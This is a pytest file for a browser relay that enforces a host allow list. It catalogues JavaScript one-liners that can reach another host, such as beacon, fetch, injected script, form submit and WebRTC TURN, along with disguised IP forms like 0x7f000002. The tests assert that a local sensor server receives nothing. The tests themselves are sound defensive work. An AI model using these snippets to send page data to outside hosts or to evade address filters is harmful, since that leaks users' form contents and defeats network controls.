"""What is not on the list is not reached, whatever asks for it; a sensor on the other end counts."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Error

from bots.model import System
from bots.runners.relay import allowed

from .conftest import Desk
from .counting_server import Server


@pytest.fixture
def sensor() -> Iterator[Server]:
    """A host that must not be reached."""
    started = Server("127.0.0.2")
    yield started
    started.close()


# Each is a way for a page to reach another host; @ stands for its address.
WAYS = {
    "image": "new Image().src = '@/i'",
    "fetch": "fetch('@/f', {mode: 'no-cors'}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '@/x'); x.send()",
    "beacon": "navigator.sendBeacon('@/b', 'A-0017')",
    "websocket": "new WebSocket('@/w'.replace('http', 'ws'))",
    "events": "new EventSource('@/e')",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '@/r'}))",
    "script": "document.body.append(Object.assign(document.createElement('script'), {src: '@/s'}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'prefetch', href: '@/p'}))",
    "preconnect": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'preconnect', href: '@'}))",
    "popup": "window.open('@/o')",
    "location": "location.href = '@/l'",
    "form": "Object.assign(document.forms[0], {action: '@/g'}).submit()",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('@/k', {mode: 'no-cors'})\"])))",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'),"
    " {httpEquiv: 'refresh', content: '0;url=@/m'}))",
    "rtc": "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.2:PORT?transport=tcp',"
    " username: 'a', credential: 'b'}]}); p.createDataChannel('c'); p.createOffer()"
    ".then(o => p.setLocalDescription(o))",
}
# Ways that Chromium does not take through this kind of proxy at all.
UNTRIED = ("rtc", "preconnect")


@pytest.mark.parametrize("way", WAYS)
def test_way(desk: Desk, sensor: Server, way: str) -> None:
    desk.open("<body><form method=post><input name=key value=A-0017></form></body>")
    script = WAYS[way].replace("@", sensor.address).replace("PORT", str(sensor.port))
    desk.page.evaluate("source => { (0, eval)(source); return 0 }", script)
    for _ in range(1 if way in UNTRIED else 10):
        desk.page.wait_for_timeout(350)
        if (sensor.host, sensor.port) in desk.relay.refusals:
            break
    assert sensor.connections == 0
    if way not in UNTRIED:
        assert (sensor.host, sensor.port) in desk.relay.refusals


@pytest.mark.parametrize("code", [302, 307])
def test_redirect(desk: Desk, sensor: Server, code: int) -> None:
    desk.open("<p>form</p>")
    with pytest.raises(Error, match="ERR_SOCKS"):
        desk.page.goto(f"{desk.server.address}/s/away?to={sensor.address}/v")
    assert sensor.connections == 0


def test_submit_redirected_away(desk: Desk, sensor: Server) -> None:
    """The system answered, but sent the browser elsewhere: in doubt, and nothing reached there."""
    from .counting_server import form

    desk.open(form(f"/s/away?to={sensor.address}/v"))
    assert desk.submit(timeout=1.5).kind == "nothing"
    assert sensor.connections == 0
    assert len(desk.server.posts()) == 1


def test_other_environment(desk: Desk, sensor: Server) -> None:
    """本番 is not reached from 訓練, even where the list of the system names it."""
    system = System(
        name="保育",
        address=desk.server.address,
        environment="訓練",
        others=(sensor.address,),
        allow=(sensor.address,),
    )
    desk.relay.allow(*allowed(system))
    desk.open("<p>form</p>")
    with pytest.raises(Error, match="ERR_SOCKS"):
        desk.page.goto(sensor.address + "/")
    assert sensor.connections == 0


@pytest.mark.parametrize("host", ["2130706434", "0x7f000002", "127.0.2", "0177.0.0.2"])
def test_disguised(desk: Desk, sensor: Server, host: str) -> None:
    desk.open("<p>form</p>")
    with pytest.raises(Error, match="ERR_"):
        desk.page.goto(f"http://{host}:{sensor.port}/")
    assert sensor.connections == 0


def test_first_request_is_seen(desk: Desk) -> None:
    before = desk.relay.seen(desk.server.host, desk.server.port)
    desk.open("<p>form</p>")
    assert desk.relay.seen(desk.server.host, desk.server.port) > before


ORPHAN = Path(__file__).with_name("orphaned_browser.py")


@pytest.mark.skipif(sys.platform == "win32", reason="kill -9 is of POSIX")
def test_browser_of_a_dead_run_reaches_nothing(server: Server) -> None:
    """A run is killed; its browser lives on for a while and polls, but nothing arrives any more."""
    import signal
    import subprocess
    import time

    server.pages["/form"] = "<script>setInterval(() => fetch('/s/json?poll'), 20)</script>"
    run = subprocess.Popen(
        [sys.executable, str(ORPHAN), server.address], stdout=subprocess.PIPE, text=True
    )
    assert run.stdout is not None
    browser = int(run.stdout.readline())
    before = len(server.hits)
    assert before > 2
    run.send_signal(signal.SIGKILL)
    run.wait(5)
    time.sleep(0.1)
    after = len(server.hits)
    try:
        time.sleep(0.6)
        assert len(server.hits) == after
        assert Path(f"/proc/{browser}").exists(), "the browser died, so this proves nothing"
    finally:
        import os

        os.kill(browser, signal.SIGKILL)
    run.stdout.close()
